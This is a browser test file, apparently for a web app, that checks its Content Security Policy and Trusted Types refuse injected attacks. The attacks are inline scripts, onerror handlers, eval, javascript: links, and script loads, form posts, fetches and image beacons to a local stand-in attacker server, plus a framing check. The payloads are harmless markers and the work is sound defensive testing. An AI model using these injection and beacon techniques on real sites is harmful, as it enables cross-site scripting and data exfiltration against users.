import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { launchBrowser } from '#tests/support/browser/chromium.ts';
import { takeRefusals } from '#tests/support/browser/refusals.ts';
import { type RunningApp, startApp } from '#tests/support/browser/running-app.ts';

/** What an attacker's server was asked for. */
const asked: string[] = [];

let app: RunningApp;
let browser: Browser;
let abroad: Server;
let abroadOrigin: string;
let page: Page;

beforeAll(async () => {
  abroad = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    const isScript = request.url?.endsWith('.js') === true;
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
    response.end(
      isScript ? 'window.ran = "foreign script"' : `<iframe src="${app.origin}/dashboard"></iframe>`,
    );
  });
  await new Promise<void>((resolve) => abroad.listen(0, '127.0.0.1', resolve));
  abroadOrigin = `http://127.0.0.1:${(abroad.address() as AddressInfo).port}`;
  [app, browser] = await Promise.all([startApp({ SANDBOX_LOAN_COUNT: '60' }), launchBrowser()]);
});

afterAll(async () => {
  await browser.close();
  await app.dispose();
  abroad.close();
});

beforeEach(async () => {
  const context = await browser.newContext();
  page = await context.newPage();
  await page.goto(`${app.origin}/login`);
  await page.getByRole('button', { name: /^Login with / }).waitFor();
  asked.length = 0;
});

afterEach(async () => {
  await page.context().close();
  // An attack may be refused more than once, and some are told of late.
  takeRefusals();
});

/** Each tries to run something, or to send something away, as text that got into a page would. Runs in the page. */
const ATTACKS: Record<string, (abroad: string) => void> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.ran = "inline script"');
    document.body.append(script);
  },
  'a script in markup': () => {
    document.body.innerHTML += '<img src="/nothing" onerror="window.ran = `onerror in markup`">';
  },
  'an event handler attribute': () => {
    const image = document.createElement('img');
    document.body.append(image);
    image.setAttribute('onerror', 'window.ran = "onerror"');
    image.src = '/nothing.png';
  },
  // Not at once: what the debugger itself evaluates is bound by no policy.
  'eval in a script of the page': () => {
    // oxlint-disable-next-line no-eval -- the attack
    setTimeout(() => (0, eval)('window.ran = "eval"'));
  },
  'a timer with a text': () => {
    // oxlint-disable-next-line no-implied-eval, typescript/no-implied-eval -- the attack
    setTimeout(() => setTimeout('window.ran = "timer"' as never));
  },
  'a javascript: link': () => {
    const link = document.createElement('a');
    link.href = 'javascript:window.ran = "link"';
    document.body.append(link);
    link.click();
  },
  'a script from abroad': (abroadOf) => {
    const script = document.createElement('script');
    script.setAttribute('src', `${abroadOf}/attack.js`);
    document.body.append(script);
  },
  'a form sent abroad': (abroadOf) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `${abroadOf}/form`;
    document.body.append(form);
    form.submit();
  },
  'a call abroad': (abroadOf) => void fetch(`${abroadOf}/call`, { mode: 'no-cors' }).catch(() => undefined),
  'a picture from abroad': (abroadOf) => {
    new Image().src = `${abroadOf}/pixel`;
  },
  'a base address abroad': (abroadOf) => {
    const base = document.createElement('base');
    base.href = abroadOf;
    document.head.append(base);
    void fetch('relative').catch(() => undefined);
  },
};

test.each(Object.keys(ATTACKS))('%s does nothing', async (name) => {
  const address = page.url();
  const outcome = await page
    .evaluate(`(${String(ATTACKS[name])})(${JSON.stringify(abroadOrigin)})`)
    // Trusted Types refuse some by an exception.
    .then(() => 'Trusted', String);
  expect(outcome).toContain('Trusted');
  await expect.poll(takeRefusals).not.toEqual([]);
  // Whatever the attack has started has had its turn by then.
  await page.evaluate(() => fetch('/livez').then(() => new Promise(requestAnimationFrame)));
  expect(await page.evaluate(() => (globalThis as { ran?: unknown }).ran)).toBeUndefined();
  expect(asked).toEqual([]);
  expect(page.url()).toBe(address);
});

test('no other page can frame the app', async () => {
  // Loaded once its frame is, or is refused.
  await page.goto(abroadOrigin);
  const frame = page.frames().find((one) => one !== page.mainFrame());
  expect(await frame?.locator('body').innerText()).not.toContain('Clear to Close');
  expect(frame?.url()).not.toContain(app.origin);
});
